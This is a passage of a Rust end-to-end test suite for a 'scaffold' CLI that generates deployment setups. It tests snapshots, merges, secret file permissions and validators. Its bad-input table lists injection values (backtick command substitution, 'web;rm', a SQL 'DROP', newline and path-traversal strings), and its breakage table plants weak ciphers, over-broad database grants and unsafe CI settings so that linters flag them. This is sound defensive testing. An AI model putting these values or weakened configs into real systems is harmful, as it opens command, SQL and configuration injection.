//! End-to-end tests of the real `scaffold` binary. See tests/README.md for how to add a case and
//! refresh the snapshots.

#[allow(dead_code)]
mod support;

use std::collections::BTreeMap;
use std::path::Path;
use support::{PRESETS, Project, repo_root, tree};

use support::{SNAPSHOT_ENV, assert_snapshot, overwriting_snapshots};

/// What a snapshot holds: every rendered file but the merge base and the secret values.
fn snapshot_view(t: &BTreeMap<String, (Vec<u8>, u32)>) -> BTreeMap<String, Vec<u8>> {
    t.iter()
        .filter(|(p, _)| !p.starts_with(".scaffold/") && !p.starts_with("secrets/"))
        .map(|(p, (b, _))| (p.clone(), b.clone()))
        .collect()
}

fn file_list(t: &BTreeMap<String, (Vec<u8>, u32)>) -> String {
    t.iter().filter(|(p, _)| !p.starts_with(".scaffold/")).map(|(p, (_, mode))| format!("{mode:o} {p}\n")).collect()
}

fn overwrite_snapshot(dir: &Path, list_file: &Path, files: &BTreeMap<String, Vec<u8>>, list: &str) {
    let _ = std::fs::remove_dir_all(dir);
    for (p, bytes) in files {
        let to = dir.join(p);
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::write(to, bytes).unwrap();
    }
    std::fs::write(list_file, list).unwrap();
}

#[test]
fn snapshots_match_the_rendered_presets() {
    let overwrite = overwriting_snapshots();
    let mut problems = Vec::new();
    for preset in PRESETS {
        let p = Project::new();
        p.init(preset);
        let rendered = p.tree();
        let files = snapshot_view(&rendered);
        let list = file_list(&rendered);
        let dir = repo_root().join("snapshots").join(preset);
        let list_file = repo_root().join("snapshots").join(format!("{preset}.files"));
        if overwrite {
            overwrite_snapshot(&dir, &list_file, &files, &list);
            continue;
        }
        let stored = snapshot_view(&tree(&dir));
        for (path, bytes) in &files {
            match stored.get(path) {
                None => problems.push(format!("{preset}: `{path}` is rendered but not in the snapshot")),
                Some(old) if old != bytes => {
                    let (old, new) = (String::from_utf8_lossy(old), String::from_utf8_lossy(bytes));
                    let diff = similar::TextDiff::from_lines(old.as_ref(), new.as_ref())
                        .unified_diff()
                        .header(&format!("snapshots/{preset}/{path}"), "rendered")
                        .to_string();
                    problems.push(format!("{preset}: `{path}` differs:\n{diff}"));
                }
                Some(_) => {}
            }
        }
        for path in stored.keys().filter(|p| !files.contains_key(*p)) {
            problems.push(format!("{preset}: `{path}` is in the snapshot but no longer rendered"));
        }
        if std::fs::read_to_string(&list_file).unwrap_or_default() != list {
            problems.push(format!("{preset}: the file list (paths and modes) differs from `snapshots/{preset}.files`"));
        }
    }
    assert!(
        problems.is_empty(),
        "{}\n\nIf the change is intended: {SNAPSHOT_ENV}=overwrite cargo test --test cli snapshots, then review `git diff snapshots/`.",
        problems.join("\n")
    );
}

#[test]
fn init_twice_changes_nothing_the_second_time() {
    let p = Project::new();
    p.init("nextjs-prisma").stdout_has("create").stdout_has("wrote");
    let before = p.tree();
    p.init("nextjs-prisma").stdout_has("nothing to change");
    assert_eq!(before, p.tree());
}

#[test]
fn dry_run_shows_diffs_and_writes_nothing() {
    let p = Project::new();
    p.run(&["init", "--preset", "go-service", "--dry-run"])
        .ok()
        .stdout_has("+++ b/docker-compose.prod.yml")
        .stdout_has("@@ -1,0 +1,")
        .stdout_lacks("\x1b[");
    assert!(!p.dir().exists());
}

#[test]
fn without_a_terminal_it_refuses_and_names_the_flags() {
    let p = Project::new();
    let run = p.run(&["init", "--preset", "go-service"]);
    // The error comes before anything is rendered or printed: no review nobody can answer.
    assert!(run.stdout.is_empty(), "printed before the error: {}", run.stdout);
    run.code(2).one_error_line().stderr_has("`--yes`").stderr_has("`--dry-run`");
    assert!(!p.dir().exists());
}

#[test]
fn answers_layer_set_over_file_over_preset() {
    let p = Project::new();
    let answers = p.dir().with_file_name("answers.yaml");
    std::fs::write(&answers, "domain: from-file.example.com\nproject: fromfile\n").unwrap();
    p.run(&[
        "init",
        "--preset",
        "nextjs-prisma",
        "--answers",
        answers.to_str().unwrap(),
        "--set",
        "domain=from-set.example.com",
        "--set",
        "services.0.port=3001",
        "--yes",
    ])
    .ok();
    let written = p.read("scaffold.yaml");
    assert!(written.contains("domain: from-set.example.com"), "{written}");
    assert!(written.contains("project: fromfile"), "{written}");
    assert!(written.contains("port: 3001"), "{written}");
    assert!(written.contains("framework: nextjs"), "{written}");
    // Later commands need no flags: the answers are in the project.
    p.run(&["check"]).ok();
}

/// (flag arguments, text the single error line must contain)
/// 55 characters: valid as a name, one too long for `<user>_migrator` in PostgreSQL's 63.
const LONG_ROLE: &str = "postgres.user=a234567890123456789012345678901234567890123456789012345";

const BAD_INPUT: &[(&[&str], &[&str])] = &[
    (
        &["--preset", "go-service", "--set", "moved.0.path=README.md", "--set", "moved.0.to=x.md"],
        &["`moved[0].path`", "`README.md` is not a file other files refer to", "`Dockerfile`"],
    ),
    (
        &["--preset", "go-service", "--set", "moved.0.path=Dockerfile", "--set", "moved.0.to=docker-compose.prod.yml"],
        &["`moved[0].to`", "`docker-compose.prod.yml` is a file `compose` renders"],
    ),
    (
        &["--preset", "go-service", "--set", "settings.sentry.org=Not A Name"],
        &["`settings.sentry.org`", "not a valid name"],
    ),
    (&["--no-input", "--set", "domian=a.example.com"], &["`domian`: unknown key", "did you mean `domain`?"]),
    (&["--preset", "go-service", "--set", "services.5.port=8080"], &["`services.5`", "the next one is `services.2`"]),
    (
        &["--preset", "go-service", "--set", "components=sentry"],
        &["`components`", "a list is expected here, such as `[sentry]`"],
    ),
    (
        &["--preset", "express-typeorm", "--set", "services.0.dir=../other"],
        &["`services[0].dir`", "`../other`", "no `..`"],
    ),
    (
        &["--preset", "express-typeorm", "--set", "services.0.build=npm run build `id`"],
        &["`services[0].build`", "without backticks"],
    ),
    (
        &["--preset", "express-typeorm", "--set", "services.0.test=echo ${{ secrets.TOKEN }}"],
        &["`services[0].test`", "without backticks or `{{`"],
    ),
    (&["--preset", "express-typeorm", "--set", "stack.orm=other"], &["`migrations.command`", "missing"]),
    (&["--preset", "go-service", "--set", "stack.orm=prisma"], &["`stack.orm`", "does not run on `stack.runtime: go`"]),
    (&["--preset", "express-typeorm", "--set", "stack.orm=goose"], &["`stack.orm`", "`goose` does not run"]),
    (
        &["--preset", "nextjs-prisma", "--set", "csp.connect_src=[\"x.example.com; script-src *\"]"],
        &["`csp.connect_src[0]`", "not a valid domain name"],
    ),
    (
        &["--preset", "nextjs-prisma", "--set", "postgres.memory=100MB"],
        &["`postgres.memory`", "`100MB`", "256MB to 1TB"],
    ),
    (
        &["--preset", "nextjs-prisma", "--set", "postgres.version=13.22-alpine"],
        &["`postgres.version`", "`13.22-alpine`", "older than 14", "pg_read_all_data"],
    ),
    (
        &["--preset", "go-service", "--set", "project=go-clean-template"],
        &["`project`", "`go-clean-template` is 17 characters", "`cloud: aws` at most 15"],
    ),
    (
        &["--preset", "nextjs-prisma", "--set", LONG_ROLE],
        &["`postgres.user`", "longer than 54 characters", "`<user>_migrator`"],
    ),
    (
        &["--preset", "go-service", "--set", "postgres.max_connections=5"],
        &["`postgres.max_connections`", "`5`", "20 to 5000"],
    ),
    (
        &["--preset", "nextjs-prisma", "--set", "settings.backups.keep=0"],
        &["`settings.backups.keep`", "`0`", "from 1 to 1000000"],
    ),
    (
        &["--preset", "go-service", "--set", "components=[offsite]", "--set", "settings.offsite.bucket=../x"],
        &["`settings.offsite.bucket`", "`../x`", "not a valid name"],
    ),
    (&["--preset", "nextjs"], &["unknown preset `nextjs`", "did you mean `nextjs-prisma`?"]),
    (
        &["--preset", "nextjs-prisma", "--set", "domian=a.example.com"],
        &["`domian`: unknown key; did you mean `domain`?"],
    ),
    (&["--preset", "nextjs-prisma", "--set", "tls.profil=modern"], &["`tls.profil`", "did you mean `profile`?"]),
    (
        &["--preset", "nextjs-prisma", "--set", "proxy=apache"],
        &["`proxy`", "`apache`", "`nginx`", "`traefik`", "`caddy`"],
    ),
    (
        &["--preset", "nextjs-prisma", "--set", "services.0.name=web;rm"],
        &["`services[0].name`", "`web;rm`", "lower-case letters"],
    ),
    (&["--preset", "nextjs-prisma", "--set", "services.0.name=Web"], &["`services[0].name`", "`Web`"]),
    (
        &["--preset", "nextjs-prisma", "--set", "services.0.port=70000"],
        &["`services[0].port`", "`70000`", "1 to 65535"],
    ),
    (&["--preset", "nextjs-prisma", "--set", "services.0.path=/api/../admin"], &["`services[0].path`", "no `..`"]),
    (
        &["--preset", "nextjs-prisma", "--set", "services.0.rate_limited_paths=[/login;]"],
        &["`services[0].rate_limited_paths[0]`", "`/login;`"],
    ),
    (
        &["--preset", "nextjs-prisma", "--set", "services.0.websocket_paths=[\"/ws\\nreturn 200\"]"],
        &["`services[0].websocket_paths[0]`", "\\n"],
    ),
    (
        &["--preset", "nextjs-prisma", "--set", "services.0.max_body=16 MB"],
        &["`services[0].max_body`", "not a valid size"],
    ),
    (
        &["--preset", "nextjs-prisma", "--set", "domain=app.example.com;"],
        &["`domain`", "`app.example.com;`", "not a valid domain"],
    ),
    (&["--preset", "nextjs-prisma", "--set", "domain=app.example.com\nevil"], &["`domain`", "app.example.com\\nevil"]),
    (&["--preset", "nextjs-prisma", "--set", "email=ops@example.com\""], &["`email`", "not a valid email"]),
    (&["--preset", "nextjs-prisma", "--set", "project=../etc"], &["`project`", "`../etc`"]),
    (&["--preset", "nextjs-prisma", "--set", "registry=ghcr.io/a b"], &["`registry`", "not a valid image repository"]),
    (
        &["--preset", "nextjs-prisma", "--set", "postgres.database=app'; DROP"],
        &["`postgres.database`", "not a valid name"],
    ),
    (&["--preset", "nextjs-prisma", "--set", "postgres.version=latest"], &["`postgres.version`", "a version number"]),
    (
        &["--preset", "nextjs-prisma", "--set", "redis.version=alpine"],
        &["`redis.version`", "`alpine` is not a valid version tag"],
    ),
    (
        &["--preset", "nextjs-prisma", "--set", "monitoring.retention_time=30s1m"],
        &["`monitoring.retention_time`", "`30s1m` is not a valid duration"],
    ),
    (&["--preset", "nextjs-prisma", "--set", "redis.maxmemory=lots"], &["`redis.maxmemory`", "`lots`"]),
    (
        &["--preset", "nextjs-prisma", "--set", "monitoring.retention_time=15x"],
        &["`monitoring.retention_time`", "`15x`", "not a valid duration"],
    ),
    (
        &["--preset", "nextjs-prisma", "--set", "monitoring.scrape_interval=1s"],
        &["`monitoring.scrape_interval`", "outside 5s to 5m"],
    ),
    (&["--preset", "nextjs-prisma", "--set", "tls.nginx_version=1.x"], &["`tls.nginx_version`", "not a valid version"]),
    (&["--preset", "nextjs-prisma", "--set", "tls.nginx_version=1.26\n"], &["`tls.nginx_version`"]),
    (
        &[
            "--preset",
            "nextjs-prisma",
            "--set",
            "stack.orm=typeorm",
            "--set",
            "stack.runtime=go",
            "--set",
            "stack.framework=go",
        ],
        &["`stack.orm`", "does not run on"],
    ),
    (
        &["--preset", "nextjs-prisma", "--set", "services.0.name=postgres"],
        &["`services[0].name`", "`postgres` is a compose service of the `compose` component"],
    ),
    (&["--preset", "nextjs-prisma", "--set", "components=[nope]"], &["`components[0]`", "unknown component `nope`"]),
    (
        &["--preset", "nextjs-prisma", "--set", "components=[nginx]"],
        &["`components[0]`", "follows from the other answers"],
    ),
    (&["--preset", "nextjs-prisma", "--set", "no-equals-sign"], &["`--set no-equals-sign`", "expected `key=value`"]),
    (&["--set", "project=x"], &["missing answers: `domain`, `email`, `stack.runtime`", "--set domain=app.example.com"]),
    (&["--preset", "go-service", "--set", "services.0.port="], &["`services[0].port`", "not a valid port"]),
];

#[test]
fn bad_input_is_one_clear_error_and_nothing_is_written() {
    for (flags, wants) in BAD_INPUT {
        let p = Project::new();
        let mut args = vec!["init"];
        args.extend_from_slice(flags);
        args.push("--yes");
        let mut run = p.run(&args).code(2).one_error_line();
        for want in *wants {
            run = run.stderr_has(want);
        }
        assert!(!p.dir().exists(), "{flags:?} wrote something");
    }
}

#[test]
fn bad_answers_file_is_rejected_with_its_name() {
    let p = Project::new();
    let answers = p.dir().with_file_name("bad.yaml");
    std::fs::write(&answers, "project: [unclosed\n").unwrap();
    p.run(&["init", "--answers", answers.to_str().unwrap(), "--yes"])
        .code(2)
        .one_error_line()
        .stderr_has("is not valid YAML");
    assert!(!p.dir().exists());
}

#[test]
fn check_exit_codes() {
    let p = Project::new();
    p.init("express-typeorm");
    p.run(&["check"]).ok().stdout_has("pristine     docker-compose.prod.yml");
    p.run(&["diff"]).ok().stdout_has("no changes");
    // A new answer makes the rendered files stale.
    p.edit("scaffold.yaml", |t| t.replace("project: tasks", "project: jobs"));
    p.run(&["check"]).code(1).stdout_has("stale").stderr_has("run `scaffold update`");
    p.run(&["check", "--json"]).code(1).stdout_has("\"state\": \"stale\"");
    p.run(&["diff"]).code(1).stdout_has("+++ b/");
    p.run(&["check", "--no-such-flag"]).code(2);
    std::fs::remove_file(p.path("docker-compose.prod.yml")).unwrap();
    p.run(&["check"]).code(1).stdout_has("user-deleted docker-compose.prod.yml");
}

#[test]
fn diff_check_and_update_agree_on_a_file_the_user_deleted() {
    let p = Project::new();
    p.init("express-typeorm");
    std::fs::remove_file(p.path("docker-compose.prod.yml")).unwrap();
    p.run(&["diff"]).ok().stdout_has("no changes");
    p.run(&["check"])
        .ok()
        .stdout_has("user-deleted docker-compose.prod.yml")
        .stdout_has("`scaffold update --restore` brings them back");
    p.run(&["update", "--yes"]).ok().stdout_has("nothing to change");
    p.run(&["update", "--yes", "--restore"]).ok();
    assert!(p.exists("docker-compose.prod.yml"));
    // Exit 1 of `diff` is an answer, not an error.
    p.edit("scaffold.yaml", |t| t.replace("project: tasks", "project: jobs"));
    let run = p.run(&["diff"]).code(1).stdout_has("would change: `scaffold update` writes them");
    assert!(!run.stderr.contains("error:"), "{}", run.stderr);
}

#[test]
fn commands_work_from_a_subfolder_of_the_project() {
    let p = Project::new();
    p.init("go-service");
    let sub = p.path("docs/runbooks");
    let mut cmd = std::process::Command::new(support::bin());
    cmd.args(["check", "--dir"]).arg(&sub);
    support::run_command(cmd, "check in docs/runbooks").ok().stdout_has("pristine").stderr_has("using the project at");
}

#[test]
fn commands_outside_a_project_say_so() {
    let p = Project::new();
    std::fs::create_dir_all(p.dir()).unwrap();
    for cmd in ["check", "diff", "update", "verify"] {
        p.run(&[cmd]).code(2).one_error_line().stderr_has("no `scaffold.yaml`").stderr_has("scaffold init");
    }
}

#[test]
fn user_edits_survive_an_update_and_overlaps_conflict() {
    let p = Project::new();
    p.init("nextjs-prisma");
    // A user edit at the end of the compose file, away from the lines the answer change touches.
    p.edit("docker-compose.prod.yml", |t| format!("{t}# ops: reviewed by the platform team\n"));
    p.edit("scaffold.yaml", |t| t.replace("project: shop", "project: store"));
    p.run(&["update", "--yes"]).ok().stdout_has("merged");
    let compose = p.read("docker-compose.prod.yml");
    assert!(compose.ends_with("# ops: reviewed by the platform team\n"), "{compose}");
    assert!(compose.contains("name: store"), "{compose}");
    p.run(&["check"]).ok().stdout_has("user-edited  docker-compose.prod.yml");

    // Now both change the same line.
    p.edit("docker-compose.prod.yml", |t| t.replace("name: store", "name: store-ops"));
    p.edit("scaffold.yaml", |t| t.replace("project: store", "project: market"));
    let before = p.tree();
    p.run(&["update", "--yes"]).code(1).stderr_has("overlap").stderr_has("`docker-compose.prod.yml`");
    assert_eq!(before, p.tree(), "a refused update must write nothing");
    p.run(&["update", "--yes", "--allow-conflicts"]).ok().stdout_has("conflict markers at line");
    let compose = p.read("docker-compose.prod.yml");
    let (mine, rest) = compose.split_once("||||||| base").expect("conflict markers");
    let (_, theirs) = rest.split_once("=======").expect("conflict markers");
    assert!(mine.contains("<<<<<<< yours (on disk)\n") && mine.contains("name: store-ops\n"), "{compose}");
    assert!(theirs.contains("name: market\n>>>>>>> scaffold"), "{compose}");
}

#[test]
fn a_file_the_user_deleted_stays_deleted_unless_restored() {
    let p = Project::new();
    p.init("go-service");
    std::fs::remove_file(p.path("docker-compose.prod.yml")).unwrap();
    p.run(&["update", "--yes"]).ok();
    assert!(!p.exists("docker-compose.prod.yml"));
    p.run(&["update", "--yes", "--restore"]).ok().stdout_has("create");
    assert!(p.exists("docker-compose.prod.yml"));
}

#[test]
fn existing_files_scaffold_did_not_write_are_kept_and_excluded_by_default() {
    let mine = "services:\n  mine: {image: 'nginx:1.27'}\n";
    let p = Project::new();
    p.write("docker-compose.prod.yml", mine);
    p.run(&["init", "--preset", "go-service", "--yes"])
        .ok()
        .stdout_has("kept yours ")
        .stdout_has("kept yours: `docker-compose.prod.yml`")
        .stdout_lacks("conflict markers");
    assert_eq!(p.read("docker-compose.prod.yml"), mine);
    let answers: serde_json::Value = yaml_serde::from_str(&p.read("scaffold.yaml")).unwrap();
    assert_eq!(answers["exclude"][0]["path"], "docker-compose.prod.yml");
    // Excluded for good: no longer rendered, merged or reported missing.
    p.run(&["check"]).ok().stdout_has("excluded     docker-compose.prod.yml");
    p.run(&["diff"]).ok();
    p.run(&["update", "--yes"]).ok().stdout_has("nothing to change");
    assert_eq!(p.read("docker-compose.prod.yml"), mine);
    // A kept Dockerfile: scaffold's is written beside it, and verify checks that one.
    let q = Project::new();
    q.write("Dockerfile", "FROM scratch\n");
    q.run(&["init", "--preset", "go-service", "--yes"]).ok().stdout_has("scaffold's version is `scaffold.Dockerfile`");
    assert_eq!(q.read("Dockerfile"), "FROM scratch\n");
    assert!(q.read("scaffold.Dockerfile").contains("AS runtime"));
    if let Some(row) = verify_only_row(&q, "hadolint", "scaffold.Dockerfile") {
        assert_eq!(row["outcome"], "pass", "{row}");
    }
}

#[test]
fn existing_files_are_replaced_or_merged_only_when_asked() {
    let mine = "services:\n  mine: {image: 'nginx:1.27'}\n";
    let replace = Project::new();
    replace.write("docker-compose.prod.yml", mine);
    replace.run(&["init", "--preset", "go-service", "--yes", "--existing", "replace"]).ok();
    assert!(replace.read("docker-compose.prod.yml").contains("postgres:"));
    replace.run(&["check"]).ok();

    let merge = Project::new();
    merge.write("docker-compose.prod.yml", mine);
    merge
        .run(&["init", "--preset", "go-service", "--yes", "--existing", "merge"])
        .ok()
        .stdout_has("conflict markers: `docker-compose.prod.yml` line 1");
    assert!(merge.read("docker-compose.prod.yml").starts_with("<<<<<<< yours (on disk)"));
    merge
        .run(&["check"])
        .code(1)
        .stdout_has("conflicted   docker-compose.prod.yml")
        .stderr_has("1 file holds unresolved conflict markers");
    // Another merge over the markers would bury them: refused until they are resolved.
    merge
        .run(&["add", "sentry", "--yes", "--set", "settings.sentry.org=acme", "--set", "settings.sentry.project=app"])
        .code(1)
        .stderr_has("`docker-compose.prod.yml` still holds conflict markers (line 1)");
}

#[test]
fn the_answers_file_cannot_be_excluded() {
    let p = Project::new();
    p.init("go-service");
    p.edit("scaffold.yaml", |t| format!("{t}exclude:\n  - path: '*.yaml'\n"));
    p.run(&["update", "--yes"])
        .code(2)
        .one_error_line()
        .stderr_has("`exclude[0].path`: `*.yaml` matches `scaffold.yaml`");
}

#[test]
fn secrets_are_private_hidden_and_never_overwritten() {
    use std::os::unix::fs::PermissionsExt;
    let p = Project::new();
    let out = p.run(&["init", "--preset", "nextjs-prisma", "--dry-run"]).ok();
    p.init("nextjs-prisma");
    let secrets: Vec<String> =
        p.tree().keys().filter(|k| k.starts_with("secrets/") && !k.ends_with(".gitignore")).cloned().collect();
    assert!(!secrets.is_empty(), "the preset generates secrets");
    let others: Vec<(String, String)> = p
        .tree()
        .into_iter()
        .filter(|(k, _)| !k.starts_with("secrets/"))
        .map(|(k, (b, _))| (k, String::from_utf8_lossy(&b).into_owned()))
        .collect();
    for s in &secrets {
        let value = p.read(s);
        assert!(value.len() >= 32, "{s} is short");
        // Readable by the containers' own users, behind a directory only the owner can enter.
        let mode = std::fs::metadata(p.path(s)).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o644, "{s}");
        assert!(!out.stdout.contains(&value));
        for (k, text) in &others {
            assert!(!text.contains(&value), "secret {s} leaked into {k}");
        }
    }
    let dir_mode = std::fs::metadata(p.path("secrets")).unwrap().permissions().mode() & 0o777;
    assert_eq!(dir_mode, 0o700, "secrets/ must be private");
    p.write(&secrets[0], "kept-by-the-user\n");
    p.run(&["update", "--yes", "--set", "project=other"]).ok().stdout_lacks("kept-by-the-user");
    assert_eq!(p.read(&secrets[0]), "kept-by-the-user\n");
}

#[test]
fn list_names_every_preset() {
    let p = Project::new();
    let out = p.run(&["list"]).ok();
    for preset in PRESETS {
        assert!(out.stdout.contains(preset), "{}", out.stdout);
    }
}

#[test]
fn a_write_that_fails_halfway_leaves_the_project_as_it_was() {
    // Run as an unprivileged user so that a read-only directory really refuses writes.
    let p = Project::new();
    p.init("nextjs-prisma");
    let uid = std::process::Command::new("id").arg("-u").output().unwrap();
    let root = String::from_utf8_lossy(&uid.stdout).trim() == "0";
    let dir = p.dir();
    let last_dir = p
        .tree()
        .keys()
        .filter(|k| k.contains('/') && !k.starts_with("secrets/"))
        .max()
        .map(|k| k.split('/').next().unwrap().to_owned())
        .expect("a rendered directory");
    let mut wrap = vec![];
    if root {
        let tmp = dir.parent().unwrap();
        std::process::Command::new("chmod").arg("755").arg(tmp).status().unwrap();
        std::process::Command::new("chown").args(["-R", "65534:65534"]).arg(&dir).status().unwrap();
        wrap = vec!["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"];
    }
    std::process::Command::new("chmod").arg("555").arg(dir.join(&last_dir)).status().unwrap();
    let before = p.tree();
    let mut cmd = std::process::Command::new(if root { wrap[0] } else { support::bin() });
    if root {
        cmd.args(&wrap[1..]).arg(support::bin());
    }
    cmd.args(["update", "--yes", "--set", "project=renamed", "--dir"]).arg(&dir);
    let run = support::run_command(cmd, "update --yes --set project=renamed (unprivileged)");
    std::process::Command::new("chmod").arg("755").arg(dir.join(&last_dir)).status().unwrap();
    let run = run.code(3).one_error_line();
    assert!(run.stderr.contains(&last_dir), "{}", run.stderr);
    assert_eq!(before, p.tree(), "the project changed although the write failed");
}

/// The `key` list of a `--json` document, after checking its format version.
fn json_list(stdout: &str, key: &str) -> Vec<serde_json::Value> {
    let doc: serde_json::Value = serde_json::from_str(stdout).expect("--json prints one JSON document");
    assert_eq!(doc["format"], 1, "every JSON document carries its format: {stdout}");
    doc[key].as_array().unwrap_or_else(|| panic!("no `{key}` list: {stdout}")).clone()
}

/// `scaffold verify --json` with `more` arguments; strict in CI, where nothing may be skipped.
fn verify_args<'a>(more: &[&'a str]) -> Vec<&'a str> {
    let mut args = vec!["verify", "--json"];
    args.extend_from_slice(more);
    if support::in_ci() {
        args.push("--strict");
    }
    args
}

/// Runs `scaffold verify --json` and returns the rows.
fn verify(p: &Project, expect_code: i32) -> Vec<serde_json::Value> {
    let run = p.run(&verify_args(&[])).code(expect_code);
    let rows = json_list(&run.stdout, "checks");
    for r in rows.iter().filter(|r| r["outcome"] == "skipped") {
        eprintln!("skipped {}: {}", r["tool"], r["message"]);
    }
    rows
}

/// The one row of `scaffold verify --json --only TOOL`; `None`, after saying so, when the tool is
/// missing on a laptop (in CI that is a failure).
fn verify_only_row(p: &Project, tool: &str, what: &str) -> Option<serde_json::Value> {
    let rows = json_list(&p.run(&verify_args(&["--only", tool])).stdout, "checks");
    let [row] = rows.as_slice() else { panic!("{what}: one `{tool}` check expected: {rows:#?}") };
    if row["outcome"] == "skipped" && !support::in_ci() {
        eprintln!("skipped {what}: {}", row["message"]);
        return None;
    }
    Some(row.clone())
}

#[test]
fn every_preset_passes_its_validators() {
    for preset in PRESETS {
        let p = Project::new();
        p.init(preset);
        let rows = verify(&p, 0);
        assert!(rows.iter().any(|r| r["outcome"] == "pass") || !support::in_ci(), "{preset}: nothing ran");
        let failed: Vec<_> = rows.iter().filter(|r| r["outcome"] == "fail").collect();
        assert!(failed.is_empty(), "{preset}: {failed:#?}");
    }
}

/// (preset, file to break, how, the tool that must catch it, a word of the check's artifact). The
/// preset may be followed by `--set` answers, space-separated, for an optional component's check.
type Breakage = (&'static str, &'static str, fn(String) -> String, &'static str, &'static str);

fn first(t: String, from: &str, to: &str) -> String {
    assert!(t.contains(from), "the breakage expects `{from}` in the file");
    t.replacen(from, to, 1)
}

const BREAKAGES: &[Breakage] = &[
    // every preset
    (
        "nextjs-prisma",
        "docker-compose.prod.yml",
        |t| first(t, "services:", "services:\n  bad:\n    imagee: x"),
        "docker",
        "compose",
    ),
    ("express-typeorm", "docker-compose.prod.yml", |t| format!("{t}\nname: duplicate-key\n"), "yamllint", "YAML"),
    ("nextjs-prisma", "scripts/backup.sh", |t| format!("{t}\necho $1 `date`\n"), "shellcheck", "every shell script"),
    ("nextjs-prisma", "Dockerfile", |t| format!("{t}\nRUN apt-get install curl\n"), "hadolint", "Dockerfile"),
    ("nextjs-prisma", "Dockerfile", |t| format!("{t}\nUSER root\n"), "checkov", "Dockerfile"),
    ("go-service", ".dockerignore", |t| t.replace(".env\n", ""), "grep", "dockerignore"),
    (
        "nextjs-prisma",
        "redis/redis.conf",
        |t| first(t, "maxmemory-policy noeviction", "maxmemory-policy sometimes"),
        "redis-server",
        "redis",
    ),
    (
        "nextjs-prisma",
        "postgres/initdb/10-roles.sh",
        |t| first(t, "GRANT SELECT, INSERT, UPDATE, DELETE ON TABLES", "GRANT ALL ON TABLES"),
        "initdb",
        "least-privilege roles",
    ),
    ("nextjs-prisma", "redis/start.sh", |t| first(t, " -flushall", ""), "redis-server", "ACL users"),
    (
        "go-service components=[offsite] settings.offsite.bucket=ledger-dumps",
        "scripts/offsite-fetch.sh",
        |t| {
            first(
                t,
                r#"mv -- "$BACKUP_DIR/$1.partial" "$BACKUP_DIR/$1""#,
                r#"mv -- "$BACKUP_DIR/$1.partial" "$BACKUP_DIR/$1.x""#,
            )
        },
        "rclone",
        "restore drill",
    ),
    (
        "nextjs-prisma",
        "scripts/deploy.sh",
        |t| first(t, "printf '%s' \"$tag\" | grep -Eqx", "true || printf '%s' \"$tag\" | grep -Eqx"),
        "sh",
        "forced command",
    ),
    (
        "go-service",
        "docker-compose.prod.yml",
        |t| first(t, "- work_mem=", "- work_mem=lots"),
        "initdb",
        "server settings",
    ),
    ("go-service", "scripts/backup.sh", |t| first(t, "excess=$(($# - KEEP))", "excess=0"), "pg_dump", "backup"),
    (
        "express-typeorm",
        "scripts/restore.sh",
        |t| first(t, "--exit-on-error --single-transaction", "--exit-on-error --single-transaction --schema-only"),
        "pg_dump",
        "restore",
    ),
    (
        "nextjs-prisma",
        "monitoring/prometheus/rules/host.yml",
        |t| first(t, "expr: ", "expr: rate(( "),
        "promtool",
        "prometheus",
    ),
    (
        "express-typeorm",
        "monitoring/prometheus/rules/host.yml",
        |t| first(t, "expr: ", "expr: rate(( "),
        "trixie-run",
        "promtool 2.53",
    ),
    (
        "nextjs-prisma",
        "monitoring/alertmanager/alertmanager.yml",
        |t| first(t, "receiver: paging", "receiver: pagingg"),
        "amtool",
        "alertmanager",
    ),
    (
        "nextjs-prisma",
        "monitoring/blackbox/blackbox.yml",
        |t| first(t, "timeout:", "timeoutt:"),
        "prometheus-blackbox-exporter",
        "blackbox",
    ),
    (
        "go-service",
        "monitoring/prometheus/rules/host.yml",
        |t| first(t, "runbook_url: \"docs/runbooks/alerts.md#hostoutofmemory\"", "runbook_url: \"\""),
        "python3",
        "rule shape",
    ),
    (
        "nextjs-prisma",
        "monitoring/grafana/grafana.ini",
        |t| first(t, "allow_sign_up = false", "allow_sign_up = true"),
        "python3",
        "grafana",
    ),
    (
        "nextjs-prisma",
        "docs/runbooks/deploy.md",
        |t| format!("{t}\n#### Skipped a level  \n"),
        "markdownlint",
        "runbooks",
    ),
    (
        "express-typeorm",
        "docs/runbooks/deploy.md",
        |t| format!("{t}\nSee [the plan](no-such-file.md#nowhere).\n"),
        "python3",
        "relative links",
    ),
    (
        "go-service",
        "docs/runbooks/deploy.md",
        |t| format!("{t}\n```sh\ndocker compose -f docker-compose.prod.yml restart no-such-service\n```\n"),
        "python3",
        "real compose services",
    ),
    // nginx (nextjs-prisma)
    (
        "nextjs-prisma",
        "nginx/nginx.conf",
        |t| first(t, "server_tokens off;", "server_tokenz off;"),
        "nginx",
        "nginx -t",
    ),
    (
        "nextjs-prisma",
        "nginx/nginx.conf",
        |t| first(t, "server_tokens off;", "server_tokenz off;"),
        "trixie-run",
        "nginx 1.26",
    ),
    (
        "nextjs-prisma",
        "nginx/snippets/tls.conf",
        |t| first(t, "ssl_ciphers ", "ssl_ciphers ECDHE-ECDSA-AES128-SHA:"),
        "sslyze",
        "nginx",
    ),
    (
        "nextjs-prisma",
        "nginx/snippets/security-headers.conf",
        |t| t.replace("\" always;", "\";"),
        "curl",
        "live behaviour",
    ),
    // GitHub Actions (nextjs-prisma)
    ("nextjs-prisma", ".github/workflows/ci.yml", |t| first(t, "runs-on:", "runs-onn:"), "actionlint", "workflows"),
    (
        "nextjs-prisma",
        ".github/workflows/ci.yml",
        |t| first(t, "  pull_request:\n", "  pull_requestt:\n"),
        "check-jsonschema",
        "workflows",
    ),
    (
        "nextjs-prisma",
        ".github/workflows/ci.yml",
        |t| first(t, "  pull_request:\n", "  pull_request:\n  pull_request_target:\n"),
        "zizmor",
        ".github",
    ),
    (
        "nextjs-prisma",
        ".github/workflows/ci.yml",
        |t| {
            first(
                t,
                "    timeout-minutes",
                "    env:\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: \"true\"\n    timeout-minutes",
            )
        },
        "checkov",
        "workflows",
    ),
    // Traefik and GitLab CI (express-typeorm)
    (
        "express-typeorm",
        "traefik/dynamic/middlewares.yml",
        |t| first(t, "stsSeconds:", "stsSecondz:"),
        "traefik",
        "traefik",
    ),
    (
        "express-typeorm",
        "traefik/dynamic/tls.yml",
        |t| first(t, "cipherSuites:\n", "cipherSuites:\n        - TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA\n"),
        "sslyze",
        "traefik",
    ),
    (
        "express-typeorm",
        ".gitlab-ci.yml",
